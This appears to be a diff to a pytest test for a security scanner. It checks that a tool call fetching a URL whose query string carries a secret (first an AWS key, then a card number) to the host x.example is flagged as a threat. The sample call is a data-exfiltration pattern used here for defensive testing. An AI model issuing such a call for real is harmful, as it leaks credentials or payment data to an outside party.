@@ -81,7 +81,7 @@ def test_tool_events(scanner: LocalScanner) -> None:
 def test_tool_input_with_secret(scanner: LocalScanner) -> None:
     with pytest.raises(ThreatDetected):
         fetch.invoke(
-            {"url": f"https://x.example/?key={AWS_KEY}"}, config={"callbacks": [InterlockCallbackHandler(scanner)]}
+            {"url": f"https://x.example/?card={CARD}"}, config={"callbacks": [InterlockCallbackHandler(scanner)]}
         )
 
 
